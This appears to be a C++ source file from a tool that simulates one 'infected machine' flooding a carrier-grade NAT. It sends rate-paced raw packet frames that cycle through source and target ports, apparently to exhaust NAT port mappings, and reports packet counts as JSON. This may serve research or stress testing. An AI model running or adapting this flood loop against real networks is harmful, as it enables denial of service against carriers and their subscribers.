// SPDX-License-Identifier: Apache-2.0
// One infected machine: the loop.
#include "flood.hpp"

#include <fmt/format.h>

#include <array>
#include <vector>

#include "frame.hpp"
#include "pace.hpp"
#include "packet_socket.hpp"

namespace cgn::blast {

Result<FloodReport> flood(const FloodPlan& plan) {
  TRY(socket, PacketSocket::open(plan.interface));
  auto gateway = plan.gateway;
  if (!gateway) {
    TRY(asked, socket.gateway_mac());
    gateway = asked;
  }
  std::vector<Frame> frames(PacketSocket::kBatch, Frame{socket.mac(), *gateway, kTruthSize});
  std::array<std::span<const std::byte>, PacketSocket::kBatch> batch{};
  const std::uint64_t ports = 65536u - plan.first_port.value();
  FloodReport report;
  Pace pace{plan.rate};
  while (pace.elapsed() < std::chrono::seconds{plan.seconds}) {
    const auto due = pace.grant(batch.size());
    for (std::size_t i = 0; i < due; ++i) {
      const auto n = report.sent + i;
      const Endpoint source{plan.subscriber, Port{static_cast<std::uint16_t>(plan.first_port.value() + n % ports)}};
      const Endpoint target{plan.target.address,
                            Port{static_cast<std::uint16_t>(plan.target.port.value() + n / ports)}};
      frames[i].write({.internal = source, .sequence = n}, target);
      batch[i] = frames[i].bytes();
    }
    if (auto done = socket.send(std::span{batch}.first(due)); !done) return Unexpected{std::move(done).error()};
    report.sent += due;
  }
  report.seconds = std::chrono::duration<double>(pace.elapsed()).count();
  return report;
}

std::string to_json(const FloodReport& r) {
  return fmt::format(R"({{"sent": {}, "seconds": {:.3f}}})", r.sent, r.seconds);
}

}  // namespace cgn::blast
